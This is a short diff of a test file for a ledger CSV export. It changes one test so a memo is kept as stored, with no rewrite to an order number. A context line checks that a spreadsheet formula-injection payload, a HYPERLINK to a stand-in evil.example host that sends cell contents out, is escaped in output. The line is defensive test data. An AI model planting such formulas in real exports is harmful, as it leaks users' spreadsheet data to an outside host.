@@ -330,9 +330,9 @@ describe("the ledger as CSV", () => {
     expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
   });
 
-  test("names an order by its number", () => {
+  test("keeps the memo as it is stored, because the hash beside it covers that", () => {
     const line = csvLine({ seq: 1, memo: "Order ord_01KZZZZZZZZZZZZZZZZZZZZZZZ" } as LedgerEntryResource);
-    expect(line).toContain(",Order 20260814-ZZZZZZ,");
+    expect(line).toContain(",Order ord_01KZZZZZZZZZZZZZZZZZZZZZZZ,");
   });
 
   test("shows the grants of a charge", () => {
